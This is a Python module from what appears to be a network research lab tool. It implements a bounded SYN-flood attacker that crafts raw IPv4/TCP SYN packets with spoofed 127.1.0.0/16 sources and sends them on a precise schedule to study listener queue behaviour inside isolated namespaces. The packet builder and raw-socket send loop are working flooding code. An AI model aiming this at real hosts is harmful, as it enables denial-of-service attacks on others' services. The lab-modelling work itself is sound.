"""The lab's SYN-flood attacker, run inside the attacker namespace.

`python -m tcpq.lab.attacker CONFIG_JSON` (or `-`: the config is the first line on stdin, for
attacks too long for one command-line argument). The config gives the destination (the server's
listener) and the send times, already drawn by tcpq with the scenario's seed. The program builds
every SYN itself (IPv4 + TCP headers with their checksums, an MSS option) with spoofed sources
cycling through 127.1.0.0/16 and varying source ports, so each SYN is a new 4-tuple and a new
request for the listener (kernel-model §2). It prints "ready", waits for "go T0" on stdin
(T0: the lab's shared CLOCK_MONOTONIC start, the same for clients, sampler and filter), then
sends each SYN at T0 + its time through one raw socket (IPPROTO_RAW: the header is ours) in a
tight loop that sleeps only when it is ahead of schedule, prints one wire.AttackReport and exits.

Bounded: at most the given SYNs, and it exits by itself after `lifetime_s` whatever happens.
The spoofed sources only mean something inside the lab: the server namespace accepts them on
the attacker's veth only (`route_localnet`), and swallows its SYN-ACKs to them (nft), so the
spoofed peers never answer and the requests stay half-open (kernel-model §3).
"""

import os
import select
import socket
import sys
import time
from bisect import bisect_right

import numpy as np
import numpy.typing as npt

from tcpq.lab.wire import AttackConfig, AttackReport, parse_go

SOURCE_NET = (127 << 24) | (1 << 16)  # 127.1.0.0/16
HOSTS = 254  # last octet 1..254: no .0 or .255 that anything could read as a network or broadcast
SOURCES = 256 * HOSTS
FIRST_PORT = 1024
PORTS = 65536 - FIRST_PORT
MSS = 1460
WINDOW = 64240
TTL = 64
IP_LEN = 20
TCP_LEN = 24  # 20 + MSS option
PACKET_LEN = IP_LEN + TCP_LEN
CHUNK = 16384  # packets built at a time
BATCH = 256  # most SYNs sent between two looks at the clock
IDLE_S = 0.002  # longest sleep while ahead of schedule
MIN_SLEEP_S = 0.0005  # shortest: SYNs due within it leave together (≤ 2000 wake-ups/s, not one per SYN)
CONFIG_TIMEOUT_S = 60.0  # for the config on stdin
GRACE_S = 0.2  # a SYN due just before the end may leave this late (tcpq waits for the report)

PACKET = np.dtype(
    [
        ("ver_ihl", "u1"),
        ("tos", "u1"),
        ("tot_len", ">u2"),
        ("ip_id", ">u2"),
        ("frag", ">u2"),
        ("ttl", "u1"),
        ("proto", "u1"),
        ("ip_sum", ">u2"),
        ("src", ">u4"),
        ("dst", ">u4"),
        ("sport", ">u2"),
        ("dport", ">u2"),
        ("seq", ">u4"),
        ("ack", ">u4"),
        ("doff", "u1"),
        ("flags", "u1"),
        ("window", ">u2"),
        ("tcp_sum", ">u2"),
        ("urg", ">u2"),
        ("opt_kind", "u1"),
        ("opt_len", "u1"),
        ("opt_mss", ">u2"),
    ]
)
assert PACKET.itemsize == PACKET_LEN


def _fold(total: npt.NDArray[np.uint64]) -> npt.NDArray[np.uint16]:
    """One's-complement sum of 16-bit words (as a uint64 running sum) → the checksum field."""
    while bool((total >> 16).any()):
        total = (total & 0xFFFF) + (total >> 16)
    return (~total & 0xFFFF).astype(np.uint16)


def build(first: int, count: int, dst: int, dport: int, seed: int) -> bytes:
    """SYNs number first … first+count-1, back to back (PACKET_LEN bytes each)."""
    index = np.arange(first, first + count, dtype=np.uint64)
    host = index % SOURCES
    src = SOURCE_NET + (host // HOSTS) * 256 + host % HOSTS + 1
    packets = np.zeros(count, dtype=PACKET)
    packets["ver_ihl"] = 0x45
    packets["tot_len"] = PACKET_LEN
    packets["ip_id"] = index & 0xFFFF
    packets["frag"] = 0x4000  # DF
    packets["ttl"] = TTL
    packets["proto"] = socket.IPPROTO_TCP
    packets["src"] = src
    packets["dst"] = dst
    packets["sport"] = FIRST_PORT + (index // SOURCES) % PORTS
    packets["dport"] = dport
    packets["seq"] = np.random.default_rng([seed & 0xFFFFFFFF, first]).integers(
        0, 1 << 32, count, dtype=np.uint64
    )
    packets["doff"] = (TCP_LEN // 4) << 4
    packets["flags"] = 0x02  # SYN
    packets["window"] = WINDOW
    packets["opt_kind"] = 2
    packets["opt_len"] = 4
    packets["opt_mss"] = MSS
    words = packets.view(">u2").reshape(count, PACKET_LEN // 2).astype(np.uint64)
    packets["ip_sum"] = _fold(words[:, : IP_LEN // 2].sum(axis=1))
    pseudo = (src >> 16) + (src & 0xFFFF) + (dst >> 16) + (dst & 0xFFFF) + socket.IPPROTO_TCP + TCP_LEN
    packets["tcp_sum"] = _fold(words[:, IP_LEN // 2 :].sum(axis=1) + pseudo)
    return packets.tobytes()


def checksum(data: bytes) -> int:
    """RFC 1071 checksum of a byte string (the slow, obvious way: to check `build`)."""
    if len(data) % 2:
        data += b"\0"
    total = sum(int.from_bytes(data[i : i + 2], "big") for i in range(0, len(data), 2))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Packets:
    """The i-th SYN, built a chunk at a time as the attack reaches it."""

    def __init__(self, config: AttackConfig) -> None:
        self.dst = int.from_bytes(socket.inet_aton(config.address), "big")
        self.port = config.port
        self.seed = config.seed
        self.first = -CHUNK
        self.chunk: list[bytes] = []

    def slice(self, start: int, stop: int) -> list[bytes]:
        """Packets start … stop-1, with stop - start ≤ CHUNK."""
        if not self.first <= start < self.first + CHUNK:
            self._load(start)
        end = self.first + CHUNK
        if stop <= end:
            return self.chunk[start - self.first : stop - self.first]
        head = self.chunk[start - self.first :]
        self._load(end)
        return head + self.chunk[: stop - end]

    def _load(self, first: int) -> None:
        data = build(first, CHUNK, self.dst, self.port, self.seed)
        self.first = first
        self.chunk = [data[i : i + PACKET_LEN] for i in range(0, len(data), PACKET_LEN)]


def attack(
    sock: socket.socket, config: AttackConfig, packets: Packets, started: float, t0: float | None = None
) -> AttackReport:
    """Send every SYN at t0 + its time (or as soon after as the machine allows); report what was
    done. `t0` is a time.monotonic() instant (None: now); report times are relative to it."""
    times = config.times_s
    total = len(times)
    cumulative = np.concatenate(([0.0], np.cumsum(times))).tolist()  # Σ times, for mean lateness
    destination = (config.address, 0)
    sendto = sock.sendto
    sent = errors = 0
    late_sum = late_max = 0.0
    index = 0
    t0 = time.monotonic() if t0 is None else t0
    stop_at = min(t0 + config.until_s + GRACE_S, started + config.lifetime_s)
    first_s = last_s = None
    while index < total:
        now = time.monotonic()
        if now >= stop_at:
            break
        elapsed = now - t0
        due = bisect_right(times, elapsed, index, min(total, index + BATCH))
        if due == index:
            time.sleep(min(IDLE_S, max(MIN_SLEEP_S, times[index] - elapsed)))
            continue
        for packet in packets.slice(index, due):
            try:
                sendto(packet, destination)
            except OSError:  # ENOBUFS and the like: counted, not retried
                errors += 1
        count = due - index
        sent += count
        late_sum += elapsed * count - (cumulative[due] - cumulative[index])
        late_max = max(late_max, elapsed - times[index])
        if first_s is None:
            first_s = elapsed
        last_s = time.monotonic() - t0
        index = due
    sent -= errors
    return AttackReport(
        offered=total,
        sent=sent,
        errors=errors,
        unsent=total - sent - errors,
        first_s=first_s,
        last_s=last_s,
        late_mean_s=late_sum / (sent + errors) if sent + errors else 0.0,
        late_max_s=late_max,
    )


class Stdin:
    """Lines from stdin with a deadline (unbuffered reads, so select() never misses a line)."""

    def __init__(self) -> None:
        self.pending = b""

    def line(self, deadline: float) -> str:
        """The next line, or "" when the deadline passes first or stdin closes."""
        while b"\n" not in self.pending:
            remaining = deadline - time.monotonic()
            if remaining <= 0 or not select.select([0], [], [], remaining)[0]:
                return ""
            data = os.read(0, 1 << 20)
            if not data:
                return ""
            self.pending += data
        line, self.pending = self.pending.split(b"\n", 1)
        return line.decode()


def main() -> None:
    started = time.monotonic()
    stdin = Stdin()
    text = sys.argv[1] if len(sys.argv) > 1 else "-"
    if text == "-":
        text = stdin.line(started + CONFIG_TIMEOUT_S)
        if not text:
            sys.exit("no config on stdin")
    config = AttackConfig.from_json(text)
    deadline = started + config.lifetime_s
    packets = Packets(config)
    if config.times_s:
        packets.slice(0, 1)  # the first chunk is built before "go"
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    print("ready", flush=True)
    go, t0 = parse_go(stdin.line(deadline))
    if not go:
        return
    report = attack(sock, config, packets, started, t0)
    sock.close()
    print(report.to_json(), flush=True)


if __name__ == "__main__":
    main()
